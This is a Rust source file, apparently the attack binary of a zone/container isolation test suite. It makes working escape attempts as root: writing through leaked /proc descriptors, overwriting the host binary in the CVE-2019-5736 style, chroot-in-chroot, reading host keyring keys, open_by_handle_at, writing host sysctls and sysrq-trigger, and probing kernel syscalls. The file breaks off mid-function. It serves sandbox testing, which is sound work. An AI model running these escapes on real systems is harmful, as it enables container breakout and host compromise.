//! `zattack ATTACK ARGS...`: the attacks of the escape suite (tests/tests/
//! escape.rs), run as root inside a zone.
//!
//! Each attack tries every way it knows and prints one line per try:
//! `ESCAPED: what` when the try got through, `held: what: why` when it did
//! not. It exits 0 when every try was held, 10 when one got through, 2 on a
//! usage error. The suite does not trust these lines alone: it checks the
//! effect of each attack on the host (a file unchanged, a marker absent, a
//! key not read, a connection not accepted). The lines say what happened
//! when an assertion fails, and stand in for the effect only where the
//! kernel leaves none the host can see (a bpf program loaded and closed).
//!
//! The binary is dynamically linked against the host's libc, which a sparse
//! zone has (its /usr and /lib are the host's, read-only); the suite copies
//! it into the zone root as /zattack, as the isolation tests do with zprobe.
//! Some attacks are run by the host instead (`suid-payload`, run by an
//! unprivileged host user, is what a zone plants for one).

use std::ffi::{CStr, CString};
use std::io::{Read, Write};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

static mut ESCAPED: bool = false;

fn escaped(what: impl std::fmt::Display) {
    println!("ESCAPED: {what}");
    let _ = std::io::stdout().flush();
    // SAFETY: zattack is single-threaded; nothing else reads or writes it concurrently.
    unsafe { ESCAPED = true };
}

fn held(what: impl std::fmt::Display) {
    let err = std::io::Error::last_os_error();
    println!("held: {what}: {err}");
    let _ = std::io::stdout().flush();
}

/// Report `ok` as an escape, or as held with errno.
fn verdict(ok: bool, what: impl std::fmt::Display) {
    if ok { escaped(what) } else { held(what) }
}

fn c(s: &str) -> CString {
    CString::new(s).expect("no NUL")
}

fn cp(p: &Path) -> CString {
    CString::new(p.as_os_str().as_bytes()).expect("no NUL")
}

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn mount(src: &str, dst: &str, fs: &str, flags: libc::c_ulong, data: Option<&str>) -> bool {
    let (s, d, f) = (c(src), c(dst), c(fs));
    let data = data.map(c);
    // SAFETY: every pointer is a live NUL-terminated string or null.
    unsafe {
        libc::mount(
            s.as_ptr(),
            d.as_ptr(),
            f.as_ptr(),
            flags,
            data.as_ref()
                .map_or(std::ptr::null(), |x| x.as_ptr() as *const libc::c_void),
        ) == 0
    }
}

/// Write `text` to a file that exists (no create); true when it was written.
fn write_existing(p: &str, text: &str) -> bool {
    std::fs::OpenOptions::new()
        .write(true)
        .open(p)
        .and_then(|mut f| f.write_all(text.as_bytes()))
        .is_ok()
}

/// Create `p` and write `text`; true when it was written.
fn create_marker(p: &Path, text: &str) -> bool {
    std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(p)
        .and_then(|mut f| f.write_all(text.as_bytes()))
        .is_ok()
}

fn pids() -> Vec<i32> {
    std::fs::read_dir("/proc")
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse().ok())
                .collect()
        })
        .unwrap_or_default()
}

/// Does the magic link `link` (a /proc fd or exe) lead outside what this
/// process sees as its root? The target path it names either does not
/// exist here, or is another file.
fn leads_out(link: &Path) -> bool {
    let Ok(target) = std::fs::read_link(link) else {
        return false;
    };
    let t = target.to_string_lossy();
    if !t.starts_with('/') {
        return false; // pipe:[..], socket:[..], anon_inode:...
    }
    let (Ok(a), Ok(b)) = (std::fs::metadata(link), std::fs::metadata(&target)) else {
        return std::fs::metadata(link).is_ok();
    };
    use std::os::unix::fs::MetadataExt;
    (a.dev(), a.ino()) != (b.dev(), b.ino())
}

/// Every descriptor of every process this one can see: any that leads out
/// of the zone is used, a directory to create `name` in it and in its
/// parent, a regular file to append a line to.
fn fdscan(name: &str) {
    let me = std::process::id() as i32;
    let mut tried = 0;
    for pid in pids() {
        // The host binary a process of the zone runs (zsched): reached, it
        // is the host's file to overwrite once nothing runs it.
        let exe = PathBuf::from(format!("/proc/{pid}/exe"));
        if leads_out(&exe) {
            let p = cp(&exe);
            // SAFETY: p is a NUL-terminated path.
            let fd = unsafe { libc::open(p.as_ptr(), libc::O_RDONLY) };
            let t = std::fs::read_link(&exe).unwrap_or_default();
            verdict(
                fd >= 0,
                format!("open the host binary {} of pid {pid}", t.display()),
            );
        }
        let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
            continue;
        };
        for fd in fds.flatten() {
            let link = fd.path();
            if !leads_out(&link) {
                continue;
            }
            tried += 1;
            let target = std::fs::read_link(&link).unwrap_or_default();
            let what = format!(
                "pid {pid}{} fd {} -> {}",
                if pid == me { " (self)" } else { "" },
                fd.file_name().to_string_lossy(),
                target.display()
            );
            match std::fs::metadata(&link) {
                Ok(m) if m.is_dir() => {
                    let a = create_marker(&link.join(name), "escaped through a descriptor\n");
                    let b = create_marker(&link.join("..").join(name), "escaped through ..\n");
                    verdict(a || b, format!("create {name} through {what}"));
                }
                Ok(m) if m.is_file() => {
                    let ok = std::fs::OpenOptions::new()
                        .append(true)
                        .open(&link)
                        .and_then(|mut f| f.write_all(b"escaped through a descriptor\n"))
                        .is_ok();
                    verdict(ok, format!("append through {what}"));
                }
                // A device (the caller's /dev/null or terminal as its
                // standard streams) is passed on purpose; its effect, if
                // any, is the terminal attack's business.
                _ => println!("note: holds {what}"),
            }
        }
    }
    if tried == 0 {
        println!("held: no descriptor leads out of the zone");
    }
}

/// Watch processes appear for `secs` seconds (the host enters the zone
/// meanwhile): open each newcomer's /proc/PID/exe while it is still the
/// host's binary and use its host descriptors; at the end, try to write
/// through every exe held (CVE-2019-5736).
fn enter_watch(secs: u64, name: &str) {
    let end = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut seen = std::collections::HashSet::new();
    let mut exes: Vec<(i32, String)> = Vec::new();
    println!("watching");
    let _ = std::io::stdout().flush();
    for p in pids() {
        seen.insert(p);
    }
    while std::time::Instant::now() < end {
        for pid in pids() {
            if !seen.insert(pid) {
                continue;
            }
            // Back to it a few times: it is caught while joining.
            for _ in 0..200 {
                let exe = PathBuf::from(format!("/proc/{pid}/exe"));
                if leads_out(&exe) {
                    let p = cp(&exe);
                    // SAFETY: p is a NUL-terminated path.
                    let fd = unsafe { libc::open(p.as_ptr(), libc::O_PATH) };
                    if fd >= 0 {
                        let t = std::fs::read_link(&exe).unwrap_or_default();
                        escaped(format!("held the host binary {} of pid {pid}", t.display()));
                        exes.push((fd, t.display().to_string()));
                    }
                }
                if let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) {
                    for fd in fds.flatten() {
                        let link = fd.path();
                        let kind = std::fs::metadata(&link).map(|m| (m.is_dir(), m.is_file()));
                        if leads_out(&link) && matches!(kind, Ok((true, _)) | Ok((_, true))) {
                            let t = std::fs::read_link(&link).unwrap_or_default();
                            escaped(format!(
                                "grabbed host descriptor {} of pid {pid}",
                                t.display()
                            ));
                            if matches!(kind, Ok((true, _))) {
                                create_marker(&link.join(name), "escaped while entering\n");
                            }
                        }
                    }
                } else {
                    break;
                }
            }
        }
    }
    for (fd, t) in exes {
        let p = c(&format!("/proc/self/fd/{fd}"));
        for _ in 0..50 {
            // SAFETY: p is a NUL-terminated path.
            let w = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY) };
            if w >= 0 {
                let msg = b"#!/bin/sh\necho overwritten by a zone\n";
                // SAFETY: w is an open descriptor; msg is a live buffer.
                let n = unsafe { libc::write(w, msg.as_ptr() as *const _, msg.len()) };
                verdict(n > 0, format!("overwrite the host binary {t}"));
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
    println!("done");
}

const KEY_SPEC_USER_KEYRING: i64 = -4;
const KEYCTL_SEARCH: i64 = 10;
const KEYCTL_READ: i64 = 11;

/// Find the key `desc` (type user) in root's user keyring and read it.
fn keyread(desc: &str) {
    let (ty, d) = (c("user"), c(desc));
    // SAFETY: the strings are live; keyctl reads them only.
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_SEARCH,
            KEY_SPEC_USER_KEYRING,
            ty.as_ptr(),
            d.as_ptr(),
            0,
        )
    };
    if id < 0 {
        held(format!("keyctl search {desc} in @u"));
        return;
    }
    let mut buf = [0u8; 256];
    // SAFETY: buf is a live buffer of the length given.
    let n = unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_READ, id, buf.as_mut_ptr(), 256) };
    if n < 0 {
        held(format!("keyctl read key {id} ({desc})"));
        return;
    }
    let n = (n as usize).min(buf.len());
    escaped(format!(
        "read key {desc}: payload {}",
        String::from_utf8_lossy(&buf[..n])
    ));
}

/// Add a key to root's user keyring (shared with the host's root).
fn keyadd(desc: &str) {
    let (ty, d, p) = (c("user"), c(desc), b"planted by a zone");
    // SAFETY: the strings and payload are live for the call.
    let id = unsafe {
        libc::syscall(
            libc::SYS_add_key,
            ty.as_ptr(),
            d.as_ptr(),
            p.as_ptr(),
            p.len(),
            KEY_SPEC_USER_KEYRING,
        )
    };
    verdict(id >= 0, format!("add_key {desc} to @u"));
}

fn hexdecode(s: &str) -> Vec<u8> {
    (0..s.len() / 2)
        .filter_map(|i| u8::from_str_radix(&s[2 * i..2 * i + 2], 16).ok())
        .collect()
}

/// open_by_handle_at with a file handle of a host file (hex of the
/// f_handle bytes and its type), through the zone's /.
fn open_handle(hex: &str, ty: i32) {
    let bytes = hexdecode(hex);
    let mut buf = vec![0u8; 8 + bytes.len()];
    buf[0..4].copy_from_slice(&(bytes.len() as u32).to_ne_bytes());
    buf[4..8].copy_from_slice(&ty.to_ne_bytes());
    buf[8..].copy_from_slice(&bytes);
    let root = c("/");
    // SAFETY: root is a NUL-terminated path.
    let mfd = unsafe { libc::open(root.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) };
    // SAFETY: buf holds a struct file_handle followed by its bytes.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mfd,
            buf.as_mut_ptr(),
            libc::O_RDONLY,
        )
    };
    if fd < 0 {
        held("open_by_handle_at a host file");
        return;
    }
    let mut s = String::new();
    // SAFETY: fd was just returned by the kernel and is owned here.
    let mut f = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) };
    let _ = f.read_to_string(&mut s);
    escaped(format!("open_by_handle_at read: {s}"));
}

/// The classic chroot escape, then: create `dir/marker`, read `dir/secret`.
fn chroot_write(dir: &str) {
    // SAFETY: plain system calls on NUL-terminated paths.
    unsafe {
        let slash = c("/");
        let fd = libc::open(slash.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        let d = c("/tmp/zattack-jail");
        libc::mkdir(d.as_ptr(), 0o755);
        if libc::chroot(d.as_ptr()) != 0 {
            held("chroot");
        }
        libc::fchdir(fd);
        let up = c("..");
        for _ in 0..64 {
            libc::chdir(up.as_ptr());
        }
        let dot = c(".");
        libc::chroot(dot.as_ptr());
    }
    let d = Path::new(dir);
    let wrote = create_marker(&d.join("marker"), "escaped by chroot\n");
    verdict(wrote, format!("create {dir}/marker after chroot-in-chroot"));
    match std::fs::read_to_string(d.join("secret")) {
        Ok(s) => escaped(format!("read {dir}/secret: {s}")),
        Err(e) => println!("held: read {dir}/secret: {e}"),
    }
    // pivot_root from a new mount namespace (needs CAP_SYS_ADMIN).
    // SAFETY: unshare takes no pointer.
    if unsafe { libc::unshare(libc::CLONE_NEWNS) } == 0 {
        escaped("unshare(CLONE_NEWNS)");
    } else {
        held("unshare(CLONE_NEWNS) for pivot_root");
    }
}

/// Raise a sysctl of the whole host, every way a zone could try.
fn sysctl_write(rel: &str, value: &str) {
    verdict(
        write_existing(&format!("/proc/sys/{rel}"), value),
        format!("write /proc/sys/{rel}"),
    );
    if mount(
        "none",
        "/proc/sys",
        "",
        libc::MS_REMOUNT | libc::MS_BIND,
        None,
    ) {
        escaped("remount /proc/sys read-write");
        verdict(
            write_existing(&format!("/proc/sys/{rel}"), value),
            format!("write /proc/sys/{rel} after remount"),
        );
    } else {
        held("remount /proc/sys read-write");
    }
    let _ = std::fs::create_dir_all("/tmp/zattack-proc");
    if mount("proc", "/tmp/zattack-proc", "proc", 0, None) {
        println!("note: a new proc mounted on /tmp/zattack-proc");
        verdict(
            write_existing(&format!("/tmp/zattack-proc/sys/{rel}"), value),
            format!("write sys/{rel} of a new proc mount"),
        );
        verdict(
            write_existing("/tmp/zattack-proc/sysrq-trigger", "h"),
            "write sysrq-trigger of a new proc mount",
        );
        let d = c("/tmp/zattack-proc");
        // SAFETY: d is NUL-terminated.
        unsafe { libc::umount2(d.as_ptr(), libc::MNT_DETACH) };
    } else {
        held("mount a new proc");
    }
    // The new mount API: an fd-only proc mount.
    if let Some(mfd) = fsmount_fd("proc") {
        let p = c(&format!("sys/{rel}"));
        // SAFETY: p is NUL-terminated; mfd is an open mount fd.
        let fd = unsafe { libc::openat(mfd, p.as_ptr(), libc::O_WRONLY) };
        let ok = fd >= 0
            // SAFETY: fd is open; value is live.
            && unsafe { libc::write(fd, value.as_ptr() as *const _, value.len()) } > 0;
        verdict(ok, format!("write sys/{rel} through an fsmount'ed proc"));
    }
}

const FSCONFIG_CMD_CREATE: u32 = 6;

/// fsopen + fsconfig + fsmount of `fstype`: the mount's fd, or None (held).
fn fsmount_fd(fstype: &str) -> Option<i32> {
    let f = c(fstype);
    // SAFETY: f is NUL-terminated.
    let fs = unsafe { libc::syscall(libc::SYS_fsopen, f.as_ptr(), 0) } as i32;
    if fs < 0 {
        held(format!("fsopen({fstype})"));
        return None;
    }
    escaped(format!("fsopen({fstype})"));
    // SAFETY: no pointer arguments are used by CMD_CREATE.
    let r = unsafe {
        libc::syscall(
            libc::SYS_fsconfig,
            fs,
            FSCONFIG_CMD_CREATE,
            0usize,
            0usize,
            0,
        )
    };
    if r < 0 {
        held(format!("fsconfig create {fstype}"));
        return None;
    }
    // SAFETY: fs is an fs context fd.
    let m = unsafe { libc::syscall(libc::SYS_fsmount, fs, 0, 0) } as i32;
    if m < 0 {
        held(format!("fsmount {fstype}"));
        return None;
    }
    escaped(format!("fsmount {fstype}"));
    Some(m)
}

const OPEN_TREE_CLONE: u32 = 1;
const FSCONFIG_CMD_RECONFIGURE: u32 = 7;
const MOUNT_ATTR_RDONLY: u64 = 1;

/// The new mount API (fsopen, fsmount, fspick, open_tree, mount_setattr).
/// Its calls themselves are `open:` (allow.mount lets them through the
/// filter) or held; what they must not reach is ESCAPED: the host sysctl
/// `rel` (raised to `value`) through a fresh proc or through a clone of
/// /proc/sys made writable, a reconfigured proc superblock, the zone's
/// own pids.max through a cgroup2 superblock.
fn newmount(rel: &str, value: &str) {
    let open = |ok: bool, what: &str| {
        if ok {
            println!("open: {what}");
        } else {
            held(what);
        }
    };
    let (t, root) = (c("tmpfs"), c("/"));
    // SAFETY: NUL-terminated strings; descriptors are leaked to the exit.
    unsafe {
        open(
            libc::syscall(libc::SYS_fsopen, t.as_ptr(), 0) >= 0,
            "fsopen(tmpfs)",
        );
        open(
            libc::syscall(
                libc::SYS_open_tree,
                libc::AT_FDCWD,
                root.as_ptr(),
                OPEN_TREE_CLONE,
            ) >= 0,
            "open_tree(/, OPEN_TREE_CLONE)",
        );
        open(
            libc::syscall(libc::SYS_fspick, libc::AT_FDCWD, root.as_ptr(), 0) >= 0,
            "fspick(/)",
        );
    }
    // A fresh proc, attached nowhere, and the host sysctl through it.
    if let Some(m) = fsmount_quiet("proc") {
        let p = c(&format!("sys/{rel}"));
        // SAFETY: p is NUL-terminated; m is a mount fd.
        let fd = unsafe { libc::openat(m, p.as_ptr(), libc::O_WRONLY) };
        verdict(
            // SAFETY: fd is open; value is live.
            fd >= 0 && unsafe { libc::write(fd, value.as_ptr() as *const _, value.len()) } > 0,
            format!("write sys/{rel} through an fsmount'ed proc"),
        );
    }
    // The zone's proc superblock (the host's pid namespace owns it):
    // fspick + reconfigure, which changes nothing if it is let through.
    let pr = c("/proc");
    // SAFETY: pr is NUL-terminated.
    let fc = unsafe { libc::syscall(libc::SYS_fspick, libc::AT_FDCWD, pr.as_ptr(), 0) } as i32;
    if fc >= 0 {
        // SAFETY: no pointer arguments are used by CMD_RECONFIGURE.
        let r = unsafe {
            libc::syscall(
                libc::SYS_fsconfig,
                fc,
                FSCONFIG_CMD_RECONFIGURE,
                0usize,
                0usize,
                0,
            )
        };
        verdict(r == 0, "fspick(/proc) + reconfigure");
    } else {
        held("fspick(/proc)");
    }
    // A clone of the read-only /proc/sys made writable, the sysctl through it.
    let ps = c("/proc/sys");
    // SAFETY: ps is NUL-terminated.
    let t = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            libc::AT_FDCWD,
            ps.as_ptr(),
            OPEN_TREE_CLONE | libc::AT_RECURSIVE as u32,
        )
    } as i32;
    if t >= 0 {
        let attr: [u64; 4] = [0, MOUNT_ATTR_RDONLY, 0, 0];
        let empty = c("");
        // SAFETY: attr is a struct mount_attr of the size given.
        let r = unsafe {
            libc::syscall(
                libc::SYS_mount_setattr,
                t,
                empty.as_ptr(),
                libc::AT_EMPTY_PATH | libc::AT_RECURSIVE,
                attr.as_ptr(),
                32usize,
            )
        };
        verdict(
            r == 0,
            "mount_setattr: clear read-only on a clone of /proc/sys",
        );
        let p = c(rel);
        // SAFETY: p is NUL-terminated; t is a mount fd.
        let fd = unsafe { libc::openat(t, p.as_ptr(), libc::O_WRONLY) };
        verdict(
            // SAFETY: fd is open; value is live.
            fd >= 0 && unsafe { libc::write(fd, value.as_ptr() as *const _, value.len()) } > 0,
            format!("write {rel} through a clone of /proc/sys"),
        );
    } else {
        held("open_tree(/proc/sys, OPEN_TREE_CLONE | AT_RECURSIVE)");
    }
    // cgroup2 of the zone's cgroup namespace: its own pids.max.
    if let Some(m) = fsmount_quiet("cgroup2") {
        let p = c("pids.max");
        // SAFETY: p is NUL-terminated; m is a mount fd.
        let fd = unsafe { libc::openat(m, p.as_ptr(), libc::O_WRONLY) };
        verdict(
            // SAFETY: fd is open; the buffer is static.
            fd >= 0 && unsafe { libc::write(fd, b"max".as_ptr() as *const _, 3) } > 0,
            "raise pids.max through an fsmount'ed cgroup2",
        );
    }
}

/// fsopen + fsconfig create + fsmount of `fstype` (the calls themselves
/// are `open:`, see [`newmount`]): the mount's fd, or None (held).
fn fsmount_quiet(fstype: &str) -> Option<i32> {
    let f = c(fstype);
    // SAFETY: f is NUL-terminated; no pointer argument for CMD_CREATE.
    unsafe {
        let fs = libc::syscall(libc::SYS_fsopen, f.as_ptr(), 0) as i32;
        if fs < 0 {
            held(format!("fsopen({fstype})"));
            return None;
        }
        if libc::syscall(
            libc::SYS_fsconfig,
            fs,
            FSCONFIG_CMD_CREATE,
            0usize,
            0usize,
            0,
        ) < 0
        {
            held(format!("fsconfig create {fstype}"));
            return None;
        }
        let m = libc::syscall(libc::SYS_fsmount, fs, 0, 0) as i32;
        if m < 0 {
            held(format!("fsmount {fstype}"));
            return None;
        }
        println!("open: fsmount {fstype}");
        Some(m)
    }
}

/// Write a sysfs attribute of the host: directly, after a remount, and
/// through a new sysfs mount.
fn sysfs_write(rel: &str, value: &str) {
    verdict(
        write_existing(&format!("/sys/{rel}"), value),
        format!("write /sys/{rel}"),
    );
    if mount("none", "/sys", "", libc::MS_REMOUNT | libc::MS_BIND, None) {
        escaped("remount /sys read-write");
        verdict(
            write_existing(&format!("/sys/{rel}"), value),
            format!("write /sys/{rel} after remount"),
        );
    } else {
        held("remount /sys read-write");
    }
    let _ = std::fs::create_dir_all("/tmp/zattack-sys");
    if mount("sysfs", "/tmp/zattack-sys", "sysfs", 0, None) {
        escaped("mount a new sysfs");
        verdict(
            write_existing(&format!("/tmp/zattack-sys/{rel}"), value),
            format!("write {rel} of a new sysfs"),
        );
        let d = c("/tmp/zattack-sys");
        // SAFETY: d is NUL-terminated.
        unsafe { libc::umount2(d.as_ptr(), libc::MNT_DETACH) };
    } else {
        held("mount a new sysfs");
    }
}

/// Mount a cgroup hierarchy and lift the zone's own pids limit.
fn cgroup_raise() {
    let _ = std::fs::create_dir_all("/tmp/zattack-cg");
    let mut mounted = false;
    for (fs, data) in [("cgroup", Some("pids")), ("cgroup2", None)] {
        if mount("cgroup", "/tmp/zattack-cg", fs, 0, data) {
            escaped(format!("mount {fs}"));
            mounted = true;
            break;
        }
        held(format!("mount {fs}"));
    }
    verdict(
        write_existing("/sys/fs/cgroup/pids/pids.max", "max"),
        "write /sys/fs/cgroup/pids/pids.max",
    );
    if mounted {
        verdict(
            write_existing("/tmp/zattack-cg/pids.max", "max"),
            "raise pids.max through a cgroup mount",
        );
        let d = c("/tmp/zattack-cg");
        // SAFETY: d is NUL-terminated.
        unsafe { libc::umount2(d.as_ptr(), libc::MNT_DETACH) };
    }
}

/// Read the kernel log for the host's `host_marker`, write `zone_marker` to it.
fn kmsg(host_marker: &str, zone_marker: &str) {
    let mut buf = vec![0u8; 1 << 20];
    // SAFETY: buf is a live buffer of the length given.
    let n = unsafe { libc::klogctl(3, buf.as_mut_ptr() as *mut libc::c_char, buf.len() as i32) };
    if n > 0 {
        let s = String::from_utf8_lossy(&buf[..n as usize]);
        verdict(
            s.contains(host_marker),
            "syslog(READ_ALL) shows the host's marker",
        );
    } else {
        held("syslog(READ_ALL)");
    }
    let dev = c("/tmp/zattack-kmsg");
    // SAFETY: dev is NUL-terminated; (1, 11) is /dev/kmsg.
    let made = unsafe { libc::mknod(dev.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 11)) };
    if made != 0 {
        held("mknod /dev/kmsg");
    }
    for p in ["/dev/kmsg", "/proc/kmsg", "/tmp/zattack-kmsg"] {
        let cpath = c(p);
        // SAFETY: cpath is NUL-terminated.
        let fd = unsafe { libc::open(cpath.as_ptr(), libc::O_RDWR | libc::O_NONBLOCK) };
        if fd < 0 {
            held(format!("open {p}"));
            continue;
        }
        let line = format!("{zone_marker}\n");
        // SAFETY: fd is open, line is live.
        let w = unsafe { libc::write(fd, line.as_ptr() as *const _, line.len()) };
        verdict(w > 0, format!("write to {p}"));
        let mut seen = false;
        loop {
            let mut b = [0u8; 8192];
            // SAFETY: b is a live buffer.
            let n = unsafe { libc::read(fd, b.as_mut_ptr() as *mut _, b.len()) };
            if n <= 0 {
                break;
            }
            if String::from_utf8_lossy(&b[..n as usize]).contains(host_marker) {
                seen = true;
                break;
            }
        }
        verdict(seen, format!("read the host's marker from {p}"));
        // SAFETY: fd is owned here.
        unsafe { libc::close(fd) };
    }
    let _ = std::fs::remove_file("/tmp/zattack-kmsg");
}

fn kernel_calls(which: &str) {
    // SAFETY (whole match): each call passes either no pointer or a live buffer
    // of the size given; results are only compared.
    match which {
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "module" => unsafe {
            let img = [0u8; 64];
            let a = c("");
            let r = libc::syscall(libc::SYS_init_module, img.as_ptr(), img.len(), a.as_ptr());
            verdict(r == 0, "init_module");
            let dn = c("/dev/null");
            let fd = libc::open(dn.as_ptr(), libc::O_RDONLY);
            let r = libc::syscall(libc::SYS_finit_module, fd, a.as_ptr(), 0);
            // EPERM/ENOSYS: refused; anything else means the kernel got
            // as far as reading the image.
            let e = errno();
            verdict(
                r == 0 || (e != libc::EPERM && e != libc::ENOSYS),
                format!("finit_module (errno {e})"),
            );
            let m = c("zattack_nonexistent");
            let r = libc::syscall(libc::SYS_delete_module, m.as_ptr(), libc::O_NONBLOCK);
            let e = errno();
            verdict(
                r == 0 || e == libc::ENOENT,
                format!("delete_module reached the module list (errno {e})"),
            );
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "bpf" => unsafe {
            // r0 = 0; exit
            let insns: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
            let lic = c("GPL");
            let mut attr = [0u8; 128];
            let put32 = |a: &mut [u8; 128], off: usize, v: u32| {
                a[off..off + 4].copy_from_slice(&v.to_ne_bytes())
            };
            put32(&mut attr, 0, 1); // BPF_PROG_TYPE_SOCKET_FILTER
            put32(&mut attr, 4, 2); // insn_cnt
            attr[8..16].copy_from_slice(&(insns.as_ptr() as u64).to_ne_bytes());
            attr[16..24].copy_from_slice(&(lic.as_ptr() as u64).to_ne_bytes());
            let r = libc::syscall(libc::SYS_bpf, 5, attr.as_ptr(), attr.len());
            verdict(r >= 0, "bpf(BPF_PROG_LOAD)");
            let mut m = [0u8; 128];
            put32(&mut m, 0, 2); // BPF_MAP_TYPE_ARRAY
            put32(&mut m, 4, 4);
            put32(&mut m, 8, 4);
            put32(&mut m, 12, 1);
            let r = libc::syscall(libc::SYS_bpf, 0, m.as_ptr(), m.len());
            verdict(r >= 0, "bpf(BPF_MAP_CREATE)");
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "perf" => unsafe {
            let mut attr = [0u8; 128];
            attr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // PERF_TYPE_SOFTWARE
            attr[4..8].copy_from_slice(&128u32.to_ne_bytes()); // size
            // config 0 = PERF_COUNT_SW_CPU_CLOCK
            let r = libc::syscall(libc::SYS_perf_event_open, attr.as_ptr(), 0, -1, -1, 0);
            verdict(r >= 0, "perf_event_open(self)");
            let r = libc::syscall(libc::SYS_perf_event_open, attr.as_ptr(), -1, 0, -1, 0);
            verdict(r >= 0, "perf_event_open(every process on cpu 0)");
            // User space only (exclude_kernel, exclude_hv): what
            // perf_event_paranoid=2 still lets anyone measure of itself.
            attr[40] |= (1 << 5) | (1 << 6);
            let r = libc::syscall(libc::SYS_perf_event_open, attr.as_ptr(), 0, -1, -1, 0);
            verdict(r >= 0, "perf_event_open(self, user space only)");
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "userfaultfd" => unsafe {
            let r = libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC | 1); // UFFD_USER_MODE_ONLY
            verdict(r >= 0, "userfaultfd(UFFD_USER_MODE_ONLY)");
            let r = libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC);
            verdict(r >= 0, "userfaultfd(0)");
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "kexec" => unsafe {
            // No segments and no flags: unload (harmless were it allowed).
            let r = libc::syscall(libc::SYS_kexec_load, 0, 0, 0, 0);
            let e = errno();
            verdict(
                r == 0 || (e != libc::EPERM && e != libc::ENOSYS),
                format!("kexec_load (errno {e})"),
            );
            let r = libc::syscall(libc::SYS_kexec_file_load, -1, -1, 0, 0, 4); // KEXEC_FILE_UNLOAD
            let e = errno();
            verdict(
                r == 0 || (e != libc::EPERM && e != libc::ENOSYS),
                format!("kexec_file_load (errno {e})"),
            );
            let r = libc::syscall(libc::SYS_reboot, 0xfee1deadu32, 0x28121969, 0x0000_0000); // CAD_OFF
            verdict(r == 0, "reboot(LINUX_REBOOT_CMD_CAD_OFF)");
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "settime" => unsafe {
            let mut ts: libc::timespec = std::mem::zeroed();
            libc::clock_gettime(libc::CLOCK_REALTIME, &mut ts);
            let r = libc::clock_settime(libc::CLOCK_REALTIME, &ts);
            verdict(r == 0, "clock_settime(CLOCK_REALTIME, now)");
            let mut tx: libc::timex = std::mem::zeroed();
            tx.modes = 0x4000; // ADJ_TICK, to the value it has
            tx.tick = 10000;
            let r = libc::adjtimex(&mut tx);
            verdict(r >= 0, "adjtimex(ADJ_TICK)");
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "iouring" => unsafe {
            let mut p = [0u8; 120];
            let r = libc::syscall(libc::SYS_io_uring_setup, 8, p.as_mut_ptr());
            verdict(r >= 0, "io_uring_setup");
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "personality" => unsafe {
            for (flag, name) in [
                (0x0040000, "ADDR_NO_RANDOMIZE"),
                (0x0400000, "READ_IMPLIES_EXEC"),
                (0x0100000, "MMAP_PAGE_ZERO"),
            ] {
                libc::personality(flag);
                let now = libc::personality(0xffff_ffff);
                verdict(
                    now >= 0 && now as u64 & flag != 0,
                    format!("personality({name})"),
                );
                libc::personality(0);
            }
        },
        // SAFETY: a raw system call the attack makes on purpose, with buffers and strings that are locals alive across it; only its result is inspected.
        "x32" => unsafe {
            let r = libc::syscall(0x4000_0000 | libc::SYS_getpid);
            verdict(r > 0, "getpid through the x32 ABI");
        },
        other => {
            eprintln!("zattack: unknown kernel call {other}");
            std::process::exit(2)
        }
    }
}

/// i386 system call through `int 0x80` (arguments must be 32-bit).
///
/// # Safety
/// Pointer arguments must point into the low 4 GiB.
#[cfg(target_arch = "x86_64")]
unsafe fn int80(nr: u32, a: u32, b: u32, cc: u32, d: u32, e: u32) -> i32 {
    let mut ret: u32 = nr;
    // SAFETY: the caller passes valid 32-bit arguments; int 0x80 clobbers
    // nothing but eax (r8-r11 are zeroed by the kernel, marked clobbered).
    unsafe {
        std::arch::asm!(
            "push rbx",
            "mov ebx, {a:e}",
            "int 0x80",
            "pop rbx",
            a = in(reg) a,
            inout("eax") ret,
            in("ecx") b,
            in("edx") cc,
            in("esi") d,
            in("edi") e,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    ret as i32
}

/// The i386 ABI from a 64-bit process: getpid, then keyctl to read the
/// host's key `desc`. Run in a child: a filter may kill it.
#[cfg(target_arch = "x86_64")]
fn int80_attack(desc: &str) {
    // SAFETY: fork in a single-threaded process.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        // SAFETY: the buffer is mapped below 4 GiB (MAP_32BIT) so that the
        // i386 calls can take its addresses.
        unsafe {
            let mine = libc::getpid();
            let r = int80(20, 0, 0, 0, 0, 0); // i386 getpid
            if r == mine {
                escaped("getpid through int 0x80");
            } else {
                println!("held: getpid through int 0x80 returned {r}");
            }
